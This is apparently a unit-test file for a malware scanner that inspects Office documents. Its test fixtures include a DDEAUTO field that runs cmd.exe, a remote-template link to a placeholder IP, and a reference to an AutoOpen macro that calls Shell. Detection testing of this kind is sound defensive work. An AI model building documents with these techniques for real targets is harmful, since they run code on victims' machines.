@@ -1,0 +1,87 @@
+"""The Office scanner on documents built at test time (see test_audit_samples)."""
+
+from __future__ import annotations
+
+import os
+import zipfile
+from pathlib import Path
+
+from tests.unit.test_audit_samples import (
+    AUTOOPEN_DROPPER,
+    AUTOOPEN_ONLY,
+    build_docx,
+    build_encrypted_office,
+    build_text,
+)
+from zionwm.isolation.spec import Verdict
+from zionwm.quarantine.audit import office
+
+
+def test_docm_with_autoopen_dropper_is_malicious(tmp_path: Path) -> None:
+    path = build_docx(tmp_path / "invoice.docm", AUTOOPEN_DROPPER)
+    findings = office.scan(str(path), "invoice.docm", None)
+    assert [(f.rule, f.verdict) for f in findings] == [("vba-autoexec-dropper", Verdict.MALICIOUS)]
+    assert "AutoOpen" in findings[0].detail and "Shell" in findings[0].detail
+
+
+def test_docm_with_harmless_autoopen_is_suspicious(tmp_path: Path) -> None:
+    path = build_docx(tmp_path / "hello.docm", AUTOOPEN_ONLY)
+    findings = office.scan(str(path), "hello.docm", None)
+    assert [(f.rule, f.verdict) for f in findings] == [("vba-autoexec", Verdict.SUSPICIOUS)]
+
+
+def test_scan_through_an_fd(tmp_path: Path) -> None:
+    path = build_docx(tmp_path / "invoice.docm", AUTOOPEN_DROPPER)
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        assert [f.rule for f in office.scan(fd, "invoice.docm", None)] == ["vba-autoexec-dropper"]
+    finally:
+        os.close(fd)
+
+
+def test_remote_template_is_malicious(tmp_path: Path) -> None:
+    path = build_docx(tmp_path / "cv.docx", template_url="http://198.51.100.7/t.dotm")
+    findings = office.scan(str(path), "cv.docx", None)
+    assert [(f.rule, f.verdict) for f in findings] == [("remote-template", Verdict.MALICIOUS)]
+    assert "198.51.100.7" in findings[0].detail
+
+
+def test_dde_field_is_suspicious(tmp_path: Path) -> None:
+    path = build_docx(tmp_path / "dde.docx")
+    body = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        "<w:body><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
+        '"/k calc.exe"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body></w:document>'
+    )
+    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp_path / "dde2.docx", "w") as dst:
+        for info in src.infolist():
+            data = body.encode() if info.filename == "word/document.xml" else src.read(info)
+            dst.writestr(info.filename, data)
+    findings = office.scan(str(tmp_path / "dde2.docx"), "dde.docx", None)
+    assert [(f.rule, f.verdict) for f in findings] == [("dde-field", Verdict.SUSPICIOUS)]
+    assert "cmd.exe" in findings[0].detail
+
+
+def test_encrypted_document_is_cannot_inspect(tmp_path: Path) -> None:
+    path = build_encrypted_office(tmp_path / "secret.docx")
+    findings = office.scan(str(path), "secret.docx", None)
+    assert [(f.rule, f.verdict) for f in findings] == [
+        ("encrypted-document", Verdict.CANNOT_INSPECT)
+    ]
+
+
+def test_clean_docx_and_non_office_files(tmp_path: Path) -> None:
+    assert office.scan(str(build_docx(tmp_path / "plain.docx")), "plain.docx", None) == []
+    assert office.scan(str(build_text(tmp_path / "a.txt")), "a.txt", None) == []
+    # a text file that talks about macros is not a document with macros
+    assert office.scan(b'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n', "a.bas", None) == []
+
+
+def test_office_kind() -> None:
+    assert office.office_kind(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(8)) == "ole"
+    assert office.office_kind(b"{\\rtf1\\ansi") == "rtf"
+    assert office.office_kind(b"ID;PWXL;N;E\r\n") == "slk"
+    assert office.office_kind(b"PK\x03\x04....[Content_Types].xml") == "ooxml"
+    assert office.office_kind(b"PK\x03\x04....notes/readme.txt") is None
+    assert office.office_kind(b"%PDF-1.7") is None
